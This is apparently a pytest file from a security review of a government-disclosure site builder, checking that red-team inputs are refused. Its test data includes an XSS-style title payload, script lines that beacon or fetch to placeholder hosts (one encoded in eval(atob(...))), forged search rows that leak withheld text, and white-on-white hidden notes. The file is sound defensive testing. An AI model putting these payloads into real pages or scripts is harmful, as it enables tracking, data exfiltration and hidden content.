"""Round twelve of the adversarial review (issue 24): the gaps earlier rounds left open, closed as classes,
then a hostile editor and a compromised department CI job against those fixes. Each test goes through the
real path (`mkdocs build`, `disclosure check|import|merge`) and failed on main before its fix.

`disclosure check` and the build (text/markup.py, the scan both run before rendering) —
- fixed: the check did not report what the build reports of the rendered page: a block the theme draws with
  Mermaid from unpkg.com (`<pre class="mermaid">` in any case, a ```mermaid or ~~~ mermaid fence, a fence or
  an attribute list with `.mermaid`, a `markdown` div of that class: E404), and a title holding "<" (a link's,
  an image's or a reference definition's title, an abbreviation, an HTML title, written or as `&lt;`: E401).
  Both now read the source for them, so the build stops at the same lines before it renders. A ```mermaid fence
  is refused whether or not mkdocs.yml sets up superfences' custom fence (the check cannot know which fence
  makes `<pre class="mermaid">`; the block's only purpose is the drawing).

Theme scripts (rules/rendered.py `script_loading`, rules/files.py) —
- fixed: a script of the theme folder building an address at run time ('ht' + 'tps://' + host, a variable,
  a JavaScript escape, `new URL(path, "https://…")`, `import(u)`, `window["fe" + "tch"]`, a string timer) went
  into site/ and ran on every page. No pattern finds every address a script can build; what is checkable is the
  call that loads. Each use of an interface that sends a request or loads a resource (fetch, XMLHttpRequest,
  sendBeacon, WebSocket, EventSource, workers, import(), new URL/Image/Audio, .src/.href/.innerHTML … =,
  setAttribute of an address, location =) or runs text as code (eval, Function, string timers, window[…])
  is refused (E404, on its line) unless it is given a relative address written out as one string. The
  project's own scripts build the search files' addresses with `new URL`: they are listed as reviewed by
  digest (REVIEWED_THEME_SCRIPTS); a change to one is reviewed again (test below names the digest).
- fixed on the second try: an alias (`var get = fetch`), `fetch.call`, `el['src']` (escapes read), Object.assign,
  Reflect, a function's constructor, a static import with escapes, setProperty/insertRule with url(), location.assign,
  setAttributeNS. Held: `import './x.js'`, `s.replace(…)`, `data['title']`, a timer given a function.
- open: whatever a script builds past these forms (a property name computed from pieces on an object other than
  the globals, `obj[k] = u`, code in a data: worker): the sound rule stays a review of the theme folder's scripts.

The merge (platform/merge.py, content/merge_facts.py, text/runs.py) —
- fixed: a unit's search results (search/units/<id>/d/ rows: title, type, date, 文号, snippet; x/<n>.json passages)
  were merged unread against the unit's pages: a compromised job could show any text, a withheld title or body, in
  the platform's search. Each must be on the page its row leads to (a snippet may be a public document's summary,
  front matter no page prints); second try: a row field that is no text, a passage no row points to: refused.
  Open: the words of the search index (t/, the platform contribution) are not compared with the pages (they are
  not shown; they are read for personal data and withheld runs as before).
- fixed: a withheld body's text in pieces under twenty characters. Now counted: a whole withheld paragraph of 10+
  normalised characters, and 10+ character pieces of one paragraph covering 20 of it together. Why ten: shorter
  runs are names and phrases a page shares with any body by chance; and only pieces no public source (content/,
  mkdocs.yml, catalogue.yaml) holds count, which is what keeps boilerplate out at any length. Open: pieces under
  ten characters, pieces spread over several files.

The importer (importer/colours.py, importer/body.py) —
- fixed: text painted in its background's colour (white on white in any CSS spelling, <font color>, <body text>,
  the same grey on a grey cell or page, see-through colours and fills) was imported as visible text. Open: CSS
  variables (`color:var(--c)`), blend modes and filters; a background from a sheet not saved with the page is
  taken for white (the import report names each element left out, for the editor to compare).
- fixed: `</font>` past a div (the next `</div>` then closed the article, and the rest of the text was dropped),
  `</h2>` ending an <h1> and an <h2> begun in one, `</br>`, stray `</p>`, a block in a paragraph's inline element,
  an early `</body></html>` (nothing was imported): compared with html5lib's tree of the same page. Open: formatting
  is not re-opened inside the block it was cut by (emphasis only, no text or line).

Attachments (privacy/attachment_cells.py) —
- fixed: SUM/PRODUCT over more than 256 cells (not worked out, no line), a formula over a cell whose formula was
  saved without its result (read as its literals: a wrong number), a name defined for a sheet and for the
  workbook (whichever came last): the right number, or a W400/W401 naming the cell. Open: the same chain in an .ods.
"""

from __future__ import annotations

import sys

import pytest

from .sitekit import _run, build, check, paired_policy, policy, write_site
from .test_merge_verifies import built, platform  # noqa: F401  (the fixtures)

# --- the fast check and the build agree (E401 title, E404 mermaid) -------------------------------------

SOURCE_ONLY = {   # case → a body line; every one is refused by both, on its line
    "an HTML block of class Mermaid": '<pre class="Mermaid">graph TD; 甲-->乙</pre>',
    "a mermaid fence": "```mermaid\ngraph TD; 丙-->丁\n```",
    "a tilde fence with a blank": "~~~ mermaid\ngraph TD; 戊-->己\n~~~",
    "a fence with an attribute list": "``` { .mermaid }\ngraph TD; 庚-->辛\n```",
    "a markdown div": '<div markdown class="mermaid">x</div>',
    "an attribute list on a paragraph": "段落\n{: .mermaid }",
    "a link title with a character reference": '见[说明](https://www.example.com/ "&lt;img src=x onerror=alert(1)&gt;")。',
    "a reference definition's title": '见[附注][r]。\n\n[r]: https://www.example.com/ "a&lt;b"',
    "an image title": '![图](files/none.png "&#60;b&#62;")',
    "an HTML title": '<span title="&lt;b&gt;提示">甲</span>',
    "an abbreviation": "*[HTML]: 超文本&lt;b&gt;标记语言",
    # the hostile editor's second try
    "a title with an escaped quote": '见[规定](https://www.example.com/ "甲\\"&lt;b")。',
    "an attribute list's title": '段落二\n{: title="&lt;b&gt;提示" }',
}


def test_the_check_reports_what_the_build_reports_of_mermaid_and_titles(tmp_path):
    body = "第一条 为规范登记，制定本办法。\n\n" + "\n\n".join(SOURCE_ONLY.values()) + "\n\n第二条 本办法自发布之日起施行。\n"
    source = policy(body=body)
    extensions = ["abbr", "attr_list", "md_in_html", {"pymdownx.superfences": {"custom_fences": [
        {"name": "mermaid", "class": "mermaid", "format": "!!python/name:pymdownx.superfences.fence_code_format"}]}}]
    root = write_site(tmp_path, {**paired_policy(), "policies/a.md": source}, mkdocs_extra={"markdown_extensions": extensions})
    lines = source.split("\n")
    expected = {}
    for case, written in SOURCE_ONLY.items():
        first = written.split("\n")
        at = next(n for n in range(len(lines)) if lines[n:n + len(first)] == first)
        line = at + 1 + next(n for n, text in enumerate(first) if "mermaid" in text.lower() or "&" in text)
        expected[case] = (line, "E404" if "ermaid" in written else "E401")

    def found(run) -> set[tuple[int, str]]:
        return {(int(line.split(":")[1]), line.split(" ")[1]) for line in run.coded_lines()
                if line.startswith("content/policies/a.md:")}
    checked, built = check(root), build(root)
    assert built.returncode != 0 and not (root / "site").exists()
    assert {case: where for case, where in expected.items() if where not in found(checked)} == {}, checked.output
    assert found(checked) == found(built), (checked.output, built.output)


# --- theme scripts that build addresses at run time (E404) ----------------------------------------------

LOADING_SCRIPT = {   # case → a line of a script in the theme folder
    "concatenated scheme": "var u = 'ht' + 'tps://' + host + '/c.gif'; new Image().src = u;",
    "fetch to a computed host": "fetch(location.protocol + '//' + h + '/x');",
    "a JavaScript escape": 'var s = document.createElement("script"); s.src = "\\x68ttps://stat.example.invalid/a.js";',
    "new URL with another base": "fetch(new URL('x.gif', 'https://' + 'stat.example.invalid/'));",
    "a dynamic import": "import(address);",
    "a name built from pieces": 'window["fe" + "tch"](address);',
    "a beacon": "navigator.sendBeacon(address, data);",
    "a request object": "var r = new XMLHttpRequest(); r.open('GET', address);",
    "a web socket": "var w = new WebSocket(address);",
    "HTML written with an address": "document.body.innerHTML += '<img src=' + address + '>';",
    "an attribute set to an address": "img.setAttribute('src', address);",
    "code run from text": "setTimeout('fetch(address)', 10);",
    "eval": "eval(atob('ZmV0Y2goJ2h0dHBzOi8vZXZpbCcp'));",
    # the hostile editor's second try, against the first version of this check
    "an alias": "var get = fetch; get(address);",
    "a call through call()": "fetch.call(null, address);",
    "a property named by a string": "img['src'] = address;",
    "properties merged in": "Object.assign(img, {src: address});",
    "the constructor of a function": "''.constructor.constructor(code)();",
    "a static import with escapes": "import x from 'https:\\x2f\\x2fstat.example.invalid/x.js';",
    "a style property set to a picture": "el.style.setProperty('background', 'url(//stat.example.invalid/a.png)');",
    "a rule inserted": "document.styleSheets[0].insertRule('body{background:url(//stat.example.invalid/a)}');",
    "a navigation": "location.assign(address);",
    "an attribute in a namespace": "el.setAttributeNS('http://www.w3.org/1999/xlink', 'href', address);",
}
HARMLESS_SCRIPT = ('fetch("data/list.json").then(function (r) { return r.json(); });\n'
                   'a.href = "../index.html"; el.setAttribute("class", "x"); el.textContent = label;\n'
                   '// fetch(address) was tried here\nvar note = "fetch(address)"; setTimeout(function () {}, 10);\n'
                   'import x from "./x.js"; label = label.replace(/a/g, "b"); el.style.setProperty("color", "red");\n'
                   'var title = data["title"]; details.open = true;\n')


def test_a_theme_script_building_an_address_at_run_time_is_refused(tmp_path):
    """Every case in one script of the theme folder, one per line, and a script using only relative addresses
    written out (and the project's own scripts, reviewed): one build."""
    assert_each_line_refused(tmp_path, LOADING_SCRIPT, HARMLESS_SCRIPT)


def assert_each_line_refused(tmp_path, cases: dict[str, str], harmless: str) -> None:
    """One build of a site whose theme folder holds a script of the cases, one a line, and a harmless script:
    each case's line is E404, nothing else is refused, no site is written."""
    import shutil

    from .sitekit import REPO
    from .test_redteam_review import THEME
    root = write_site(tmp_path, paired_policy(), mkdocs_extra={"theme": {**THEME, "custom_dir": "overrides"}})
    shutil.copytree(REPO / "overrides", root / "overrides")
    (root / "overrides/assets/javascripts/stat.js").write_text("/* 本单位 */\n" + "\n".join(cases.values()) + "\n",
                                                               encoding="utf-8")
    (root / "overrides/assets/javascripts/list.js").write_text(harmless, encoding="utf-8")
    run = build(root)
    refused = {int(line.split(":")[1]) for line in run.coded_lines() if line.startswith("overrides/assets/javascripts/stat.js:")
               and " E404 " in line}
    missed = [case for number, case in enumerate(cases, start=2) if number not in refused]
    assert run.returncode != 0 and not missed, (missed, run.output)
    assert [line for line in run.coded_lines() if "stat.js" not in line] == [], run.output
    assert not (root / "site").exists()


@pytest.mark.parametrize("suffix, listed", [("js", "REVIEWED_THEME_SCRIPTS"), ("css", "REVIEWED_THEME_STYLESHEETS")])
def test_the_projects_own_theme_scripts_and_style_sheets_are_the_reviewed_ones(suffix, listed):
    """A change to a script or style sheet this project ships is reviewed again: its digest goes into the list.
    The listed style sheet is not parsed for text it writes (E401) on each build: it writes none."""
    import hashlib

    from disclosure.rules import files
    from disclosure.rules.rendered import style_sheet_text

    from .sitekit import REPO
    shipped = sorted((REPO / "overrides").rglob(f"*.{suffix}"))
    unreviewed = {path.relative_to(REPO).as_posix(): hashlib.sha256(path.read_bytes()).hexdigest() for path in shipped
                  if hashlib.sha256(path.read_bytes()).hexdigest() not in getattr(files, listed)}
    assert shipped and unreviewed == {}, f"review these files, then list their digests in rules/files.py {listed}: {unreviewed}"
    if suffix == "css":
        assert [style_sheet_text(path.read_text(encoding="utf-8")) for path in shipped] == [[] for _ in shipped]


# --- the merge: search results show only what the unit's pages show (E700) ------------------------------

def test_search_results_whose_text_is_not_on_the_units_pages_are_refused(platform):
    """A compromised unit job rewrites its search data after its build and seals it again: a row's title, a row's
    snippet, a result's passage (x/<n>.json) showing text its pages do not hold (a withheld document's title or
    body). One merge; each file is a coded line naming the unit and the file; site/ untouched."""
    import json

    from disclosure.platform.unit_manifest import seal_unit_manifest

    from .test_merge_verifies import refused

    changes = {   # (unit, file) → how its JSON is changed
        ("jyj", "search/units/jyj/d/0.json"): lambda rows: [[rows[0][0], "关于某企业违法线索的内部核查报告", *rows[0][2:]], *rows[1:]],
        ("jyj", "search/units/jyj/x/1.json"): lambda passage: "经测算，拟将示例学校的住宿费上调百分之四十，暂不对外公布。" + passage,
        ("gov", "search/units/gov/d/0.json"): lambda rows: [[*rows[0][:5], "拟对某企业处以罚款三十万元", *rows[0][6:]], *rows[1:]],
        # the compromised job's second try: a title that is no text (the reader's script prints it all the same),
        # a passage no result points to (published all the same)
        ("nanqu", "search/units/nanqu/d/0.json"): lambda rows: [[rows[0][0], ["关于某企业违法线索的内部核查报告"], *rows[0][2:]],
                                                                *rows[1:]],
        ("jyj", "search/units/jyj/x/99.json"): lambda _: "经测算，拟将示例学校的住宿费上调百分之四十，暂不对外公布。",
    }
    (platform / "build/units/jyj/search/units/jyj/x/99.json").write_text('""', encoding="utf-8")
    for (unit, path), change in changes.items():
        file = platform / "build/units" / unit / path
        file.write_text(json.dumps(change(json.loads(file.read_text(encoding="utf-8"))), ensure_ascii=False), encoding="utf-8")
    for unit in {unit for unit, _ in changes}:
        seal_unit_manifest(platform / "build/units" / unit, unit)
    output = refused(platform)
    missed = [path for unit, path in changes if not any(
        f"build/units/{unit}/{path}:1: E700 " in line and ("不在它指向的页面上" in line or "搜索" in line)
        for line in output.splitlines())]
    assert missed == [], output


# --- the merge: a withheld body's text in pieces shorter than twenty characters (E700) --------------------

SHORT_SECRET = "拟对示例某企业处以罚款三十万元整。"   # a withheld paragraph of one short sentence (16 characters)
LONG_SECRET = "经测算，拟将示例学校的住宿费上调百分之四十，同时取消部分减免政策，暂不对外公布。"


def test_a_withheld_body_in_short_pieces_is_refused(platform):
    """Round four refused runs of twenty characters: a withheld paragraph shorter than that was never looked for,
    and a longer one cut into pieces of ten to nineteen characters with other words between was merged. One
    merge: a short paragraph whole in a page, a long one in pieces in a feed; a page sharing only a few words
    with the body (a phrase shorter than a piece) and one repeating a public document's sentence are not refused."""
    from .test_redteam4 import UNIT_PAGE, _withheld_body

    from .test_merge_verifies import refused
    _withheld_body(platform, f"{SHORT_SECRET}\n\n{LONG_SECRET}")
    public = platform / "content/jyj/guide/guide.md"
    public.write_text(public.read_text(encoding="utf-8") + "\n同时取消部分减免政策，暂不对外公布。\n", encoding="utf-8")
    pieces = "<p>经测算，拟将示例学校的住宿费</p><p>按照规定，</p><p>上调百分之四十，同时取消</p><p>部分</p>"
    changes = {
        UNIT_PAGE: ("</main>", f"<p>另：{SHORT_SECRET}</p></main>"),
        "jyj/fees/feed.xml": ("</summary>", "&lt;p&gt;" + pieces.replace("<", "&lt;").replace(">", "&gt;") + "</summary>"),
        "jyj/index.html": ("</main>", "<p>示例学校的住宿费</p><p>同时取消部分减免政策，暂不对外公布。</p></main>"),
    }
    handed_over_changed(platform, "jyj", changes)
    output = refused(platform)
    assert named_with(output, "jyj", changes, "content/jyj/fees/secret.md") == {UNIT_PAGE, "jyj/fees/feed.xml"}, output


def handed_over_changed(platform, unit: str, changes: dict[str, tuple[str, str]]) -> None:
    """What a compromised job hands over: files of the unit's output changed (`old` → `new`, once; `old` must be
    there) and the unit's manifest sealed again over them, as its build would."""
    from disclosure.platform.unit_manifest import seal_unit_manifest
    for path, (old, new) in changes.items():
        file = platform / "build/units" / unit / path
        text = file.read_text(encoding="utf-8")
        assert old in text, path
        file.write_text(text.replace(old, new, 1), encoding="utf-8")
    seal_unit_manifest(platform / "build/units" / unit, unit)


def named_with(output: str, unit: str, paths, source: str) -> set[str]:
    """The files of `paths` (in the unit's output) that an E700 line of the merge names together with `source`."""
    return {path for path in paths if any(f"build/units/{unit}/{path}:1: E700 " in line and source in line
                                          for line in output.splitlines())}


def _imported(tmp_path, pages: list[str]):
    """One `disclosure import` of a folder of saved pages (p0.html …, each given its own 索引号 and title):
    the site and what the import report says of each page, by its file name."""
    from .test_import import CMS_CATALOGUE, TABLES, by_source, report_of
    root = write_site(tmp_path / "site", {}, catalogue=CMS_CATALOGUE, mkdocs_extra=TABLES)
    folder = tmp_path / "old"
    folder.mkdir()
    for number, page in enumerate(pages):
        (folder / f"p{number}.html").write_text(page.replace("2025-00600", f"2025-{601 + number:05d}").replace(
            "情况的通报", f"情况的通报（{number}）"), encoding="utf-8")
    done = _run([sys.executable, "-m", "disclosure.cli.main", "import", str(folder), "--type", "notice", "--report", "r.json"],
                root, timeout=120)
    assert done.returncode == 0 and "Traceback" not in done.stderr, done.stderr
    return root, by_source(report_of(root, "r.json"))


# --- the importer: text drawn in its background's colour (not imported, as display:none) ------------------

NOTE = "审核意见：拟对该仓库罚款三十万元"
PAINTED = {   # case → (<style> for the head, the body's hidden part), whether a browser shows the note
    # drawn over: not seen
    "white": ("", f'<p style="color:#fff">{NOTE}</p>'),
    "a white font": ("", f'<p><font color="white">{NOTE}</font></p>'),
    "rgb in the space syntax": ("", f'<p style="color: rgb(255 255 255)">{NOTE}</p>'),
    "hsl at full lightness": ("", f'<p style="color:hsl(210, 40%, 100%)">{NOTE}</p>'),
    "hwb all white": ("", f'<p style="color:hwb(0 100% 0%)">{NOTE}</p>'),
    "oklch at full lightness": ("", f'<p style="color:oklch(1 0 0)">{NOTE}</p>'),
    "an opacity in percent": ("", f'<p style="color:rgba(0,0,0,0%)">{NOTE}</p>'),
    "an opacity after a slash": ("", f'<p style="color:rgb(0 0 0 / 0)">{NOTE}</p>'),
    "a see-through fill": ("", f'<p style="-webkit-text-fill-color:transparent">{NOTE}</p>'),
    "grey on the same grey": ("", f'<div style="background:#eee"><p style="color:#EEEEEE">{NOTE}</p></div>'),
    "a cell's colour, its own bgcolor": ("", f'<table><tr><td bgcolor="#336699"><font color="#369">{NOTE}</font></td>'
                                         '<td>甲</td></tr><tr><td>乙</td><td>丙</td></tr></table>'),
    "a class of the page's sheet": (".n{color:#FFF}", f'<p class="n">{NOTE}</p>'),
    "a class with an escaped colour": (".n{color:\\77hite}", f'<p class="n">{NOTE}</p>'),
    "the page's own background": ("body{background:#ffffe0}", f'<p style="color:lightyellow">{NOTE}</p>'),
    # seen: kept
    "white on a blue cell": ("", f'<table><tr><th bgcolor="#003399"><font color="#ffffff">{NOTE}</font></th>'
                             '<th>甲</th></tr><tr><td>乙</td><td>丙</td></tr></table>'),
    "white on a dark class": (".head{background:#036}", f'<div class="head" style="color:#fff">{NOTE}</div>'),
    "white on a picture": ("", f'<div style="background:url(bg.png)"><p style="color:#fff">{NOTE}</p></div>'),
    "white with a shadow": ("", f'<p style="color:#fff;text-shadow:0 0 2px #000">{NOTE}</p>'),
    "black inside white": ("", f'<p style="color:#fff"><b style="color:#000">{NOTE}</b></p>'),
    "a light grey": ("", f'<p style="color:#ddd">{NOTE}</p>'),
}
SEEN_FROM = "white on a blue cell"


def test_text_drawn_in_its_backgrounds_colour_is_not_imported(tmp_path):
    """One import of a folder of saved pages, one per case (white or same-as-background text was imported as
    visible text; the other hiding styles were not)."""
    assert_note_kept_from(tmp_path, PAINTED, SEEN_FROM)


def assert_note_kept_from(tmp_path, cases: dict[str, tuple[str, str]], seen_from: str) -> None:
    """One import of a folder of saved pages, one per case ((<style> for the head, the body's part holding the
    note)): the note is left out of each body before the case `seen_from`, and kept from it on."""
    from .test_import import front_and_body
    from .test_redteam4 import SAVED
    root, imported = _imported(tmp_path, [SAVED.format(hidden=hidden).replace("<title>", f"<style>{sheet}</style><title>", 1)
                                          for sheet, hidden in cases.values()])
    first_seen = list(cases).index(seen_from)
    wrong = {}
    for number, case in enumerate(cases):
        _, body = front_and_body(root / imported[f"p{number}.html"]["target"])
        assert "逐项整改" in body, (case, body)
        if ("罚款三十万元" in body) != (number >= first_seen):
            wrong[case] = body
    assert not wrong, wrong


# --- the importer: stray and misnested end tags read as a browser reads them --------------------------------

TAG_SOUP = {   # case → the fragment between two paragraphs of a saved page's body
    "a stray </font>": "<p>甲一</font>乙一</p>",
    "</h2> ending an <h1>": "<h1>标题二</h2>正文二</h1><p>后文二</p>",
    "a heading begun in a heading": "<h1>甲十二<h2>乙十二</h2>丙十二</h1>",
    "<b> across paragraphs": "<p><b>甲三<p>乙三</b>丙三</p>",
    "a </font> past a div, then </div> and </p>": "<p><font color=red>甲四<div>乙四</font>丙四</div>丁四</p>",
    "</br>": "<p>甲五</br>乙五</p>",
    "a stray </p> in a div": "<div>甲六</p>乙六</div>",
    "a stray </h3>": "<p>甲七</h3>乙七</p>",
    "a stray </strong> in a list item": "<ul><li>甲八</strong>乙八</li></ul>",
    "one </span> too many": "<p><span>甲九</span></span>乙九</p>",
    "a stray </td> outside a table": "<p>甲十一</td>乙十一</p>",
    "</em> across paragraphs": "<p><em>甲十三</p><p>乙十三</em>丙十三</p>",
    "a div in a span in a paragraph": "<p><span>甲十四<div>乙十四</div>丙十四</span></p>",
    "stray </p>s between lines and in a row": "<div>甲十五</p>乙十五</p></p>丙十五</div>",
    "an early </body></html> (a CMS include)": "<p>甲十六</p></body></html><p>乙十六</p>",
}
_BLOCKS = frozenset("p div ul ol li dl dt dd table tr td th blockquote pre section article h1 h2 h3 h4 h5 h6 br hr".split())


def _browser_lines(page: str) -> list[tuple[str, str]]:
    """The lines of the saved page's article as a browser lays them out (html5lib builds the tree by the HTML
    standard's rules): (kind, text), kind "#"·level for a heading, "" for a paragraph; text without blanks."""
    import html5lib
    article = next(div for div in html5lib.parse(page, namespaceHTMLElements=False).iter("div")
                   if div.get("class") == "article")
    lines, current = [], []

    def flush(kind: str = "") -> None:
        if "".join(current).strip():
            lines.append((kind, "".join("".join(current).split())))
        current.clear()

    def walk(element) -> None:
        block = element.tag in _BLOCKS
        if block:
            flush()
        current.append(element.text or "")
        for child in element:
            walk(child)
            current.append(child.tail or "")
        if block:
            flush("#" * int(element.tag[1]) if element.tag in HEADINGS else "")
    HEADINGS = {f"h{n}" for n in range(1, 7)}
    walk(article)
    flush()
    return lines


def _imported_lines(body: str) -> list[tuple[str, str]]:
    import re
    found = []
    for line in body.split("\n"):
        if line.strip():
            mark = re.match(r"(#+) ", line)
            text = re.sub(r"^(#+ |- )|\*", "", line)
            found.append((mark.group(1) if mark else "", "".join(text.split())))
    return found


def test_stray_and_misnested_end_tags_keep_the_text_and_lines_a_browser_shows(tmp_path):
    """One import of a folder of saved pages, one per case; each body's lines (text and headings) against the
    lines of html5lib's tree of the same page. A `</font>` past a div let the next `</div>` close the article
    itself, and the text after it was dropped; `</h2>` made the text after an <h1> part of the heading;
    `</br>` and a stray `</p>` (a line break and an empty paragraph to a browser) joined two lines."""
    from .test_import import front_and_body
    from .test_redteam4 import SAVED
    saved = ["<!DOCTYPE html>" + SAVED.format(hidden=f"<p>开头段落。</p>{fragment}<p>结尾段落。</p>") for fragment in TAG_SOUP.values()]
    root, imported = _imported(tmp_path, saved)
    wrong = {}
    for number, case in enumerate(TAG_SOUP):
        _, body = front_and_body(root / imported[f"p{number}.html"]["target"])
        lines, shown = _imported_lines(body), _browser_lines(saved[number])
        between = lambda found: found[found.index(("", "开头段落。")):found.index(("", "结尾段落。")) + 1] \
            if ("", "开头段落。") in found and ("", "结尾段落。") in found else found  # noqa: E731
        if between(lines) != between(shown):
            wrong[case] = (between(lines), between(shown))
    assert not wrong, wrong


# --- attachments: spreadsheet arithmetic gives the right number or a coded warning -----------------------

def _workbook(cells: dict[str, object], names: dict[str, str] | None = None, sheet_names: dict[str, str] | None = None) -> bytes:
    """A workbook as openpyxl writes one (formulas saved without their results); `names` defined for the
    workbook, `sheet_names` for its sheet (localSheetId)."""
    import io

    import openpyxl
    from openpyxl.workbook.defined_name import DefinedName
    book = openpyxl.Workbook()
    book.active.title = "表"
    for cell, value in cells.items():
        book.active[cell] = value
    for name, text in (names or {}).items():
        book.defined_names[name] = DefinedName(name, attr_text=text)
    for name, text in (sheet_names or {}).items():
        book.active.defined_names[name] = DefinedName(name, attr_text=text)
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


MOBILE_MASKED = "138****8000"
PARTS = {f"A{row}": 4600 for row in range(2, 301)} | {"A1": 1380013 - 299 * 4600, "B1": 8000}
SHEETS = {   # file → (cells, workbook names, sheet names), what the check says of cell C1 (an E400 or a W400 naming it)
    "sum-of-300.xlsx": (PARTS | {"C1": "=SUM(A1:A300)*10000+B1"}, None, None, "E400"),
    "chain.xlsx": ({"D1": 1380013, "A1": "=D1*1", "B1": 8000, "C1": "=A1*10000+B1"}, None, None, "E400"),
    # a link that cannot be worked out (another function over a cell): the formula using it is warned
    "chain-unknown.xlsx": ({"D1": 1380013, "A1": "=INDIRECT(D1)", "B1": 8000, "C1": "=A1*10000+B1"}, None, None, "W400"),
    "literal-link.xlsx": ({"A1": "=1380013*1", "B1": 8000, "C1": "=A1*10000+B1"}, None, None, "E400"),
    "sheet-name.xlsx": ({"B1": 8000, "C1": "=P*10000+B1"}, {"P": "999"}, {"P": "1380013"}, "W400"),
    # second try: a name standing for arithmetic (its literals were joined: 13800131)
    "name-of-arithmetic.xlsx": ({"B1": 8000, "C1": "=P*10000+B1"}, {"P": "1380013*1"}, None, "E400"),
}


def test_spreadsheet_arithmetic_gives_the_right_number_or_a_coded_warning(tmp_path):
    """One check, one attachment per case: a SUM of 300 cells placing the first seven digits of a mobile (ranges
    past 256 cells were not worked out, no line); a formula over a cell whose own formula was saved without
    its result and names another cell (the cell was read as its literals, a wrong number, no line: now worked out
    link by link, or warned where a link cannot be); the same over
    a formula of literals only (worked out); a name defined for the sheet and again for the workbook (the last
    definition read was used, whichever Excel would not)."""
    attachments = {name: _workbook(*case[:3]) for name, case in SHEETS.items()}
    files = {**paired_policy(), "policies/a.md": policy(attachments=[{"file": f"files/{name}", "title": name} for name in attachments]),
             **{f"policies/files/{name}": data for name, data in attachments.items()}}
    run = check(write_site(tmp_path, files))
    wrong = {}
    for name, (*_, code) in SHEETS.items():
        lines = [line for line in run.coded_lines() if name in line and f" {code} " in line]
        if not any((MOBILE_MASKED in line) if code == "E400" else ("C1" in line) for line in lines):
            wrong[name] = [line for line in run.coded_lines() if name in line]
    assert not wrong, (wrong, run.output)
